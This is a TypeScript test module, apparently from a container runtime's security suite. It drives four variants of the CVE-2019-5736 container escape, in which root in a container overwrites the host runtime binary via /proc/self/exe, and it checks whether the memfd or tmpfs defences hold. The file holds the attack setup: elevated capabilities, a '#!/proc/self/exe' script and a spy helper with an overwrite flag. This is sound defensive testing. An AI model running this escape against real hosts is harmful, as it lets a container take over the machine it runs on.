/** CVE-2019-5736: root inside opens the runtime's program by /proc/PID/exe, and overwrites it on the host. */
import { chmodSync, readdirSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Attack, escaped, held, type Outcome } from "../attack.ts";
import { addCapabilities, withProgram, withVolume } from "../inside.ts";
import { eventually, type Subject, textOf } from "../subject.ts";

const NAMES = "sh,sleep,spy,true,overwriter";

/** When each file was last changed, and its size. */
function states(directory: string): string {
  return readdirSync(directory)
    .map((name) => {
      const { size, mtimeNs, ctimeNs } = statSync(join(directory, name), { bigint: true });
      return `${name} ${size} ${mtimeNs} ${ctimeNs}`;
    })
    .join("\n");
}

/** `program`: what exec is asked to run in the container. */
async function overwrite(subject: Subject, program: string, refuse?: string): Promise<Outcome> {
  const directory = subject.ownExecutable();
  const before = states(directory);
  const scripts = subject.scratch("scripts");
  writeFileSync(join(scripts, "script"), "#!/proc/self/exe\n");
  chmodSync(join(scripts, "script"), 0o755);
  const options = refuse === undefined ? {} : { refuse };
  // Root of the host in all but namespaces, and allowed to look at every process that it sees.
  const id = await subject.running(
    (config) => {
      withProgram(config, "spy");
      withVolume(config, scripts, "/dev/scripts");
      addCapabilities(config, "CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE");
    },
    undefined,
    options,
  );
  const found = join(subject.scratch("spy"), "found");
  subject.start(["exec", "-d", id, "/dev/spy", "--names", NAMES, "--overwrite"], { output: found, ...options });
  await eventually(() => textOf(found).includes("ready"), "the spy looks");
  const rounds = subject.execRounds;
  for (let round = 1; round <= rounds; round++) {
    await subject.call(["exec", id, program], options);
    if (states(directory) !== before) return escaped(`round ${round}: the program on the host is overwritten`);
  }
  const own = textOf(found).includes("overwritten") ? ", what was overwritten is used by nobody else" : "";
  return held(`${rounds} rounds, the program on the host is unchanged${own}`);
}

/** runt says which memfd is to be executed, the others use none of its flags. */
const FALLBACK = { runt: "memfd_exec", peers: "memfd_create" };

export const ATTACKS: readonly Attack[] = [
  {
    id: "CVE-2019-5736",
    title: "root in the container races exec for /proc/PID/exe of the joining process, and writes to it",
    mechanism: "the helper is a separate program, in a memfd that is sealed against every change, so it leads to no file of the host",
    defences: "self-exe",
    run: (subject) => overwrite(subject, "/bin/true"),
  },
  {
    id: "CVE-2019-5736 (/proc/self/exe as program)",
    title: "the program is /proc/self/exe: the program of the runtime runs in the container, for any time",
    mechanism: "the same memfd: the helper runs, and ends with status 2",
    defences: "self-exe",
    run: (subject) => overwrite(subject, "/proc/self/exe"),
  },
  {
    id: "CVE-2019-5736 (/proc/self/exe as interpreter)",
    title: "the program to run is a script of the image with #!/proc/self/exe",
    mechanism: "the same memfd",
    defences: "self-exe",
    run: (subject) => overwrite(subject, "/dev/scripts/script"),
  },
  {
    id: "CVE-2019-5736 (no memfd)",
    title: "the same race on a host where a memfd may not be executed (vm.memfd_noexec=2)",
    mechanism: "the helper is then on a detached tmpfs of its own, read-only before it is executed",
    defences: "self-exe",
    run: (subject) => overwrite(subject, "/proc/self/exe", subject.isRunt ? FALLBACK.runt : FALLBACK.peers),
  },
];
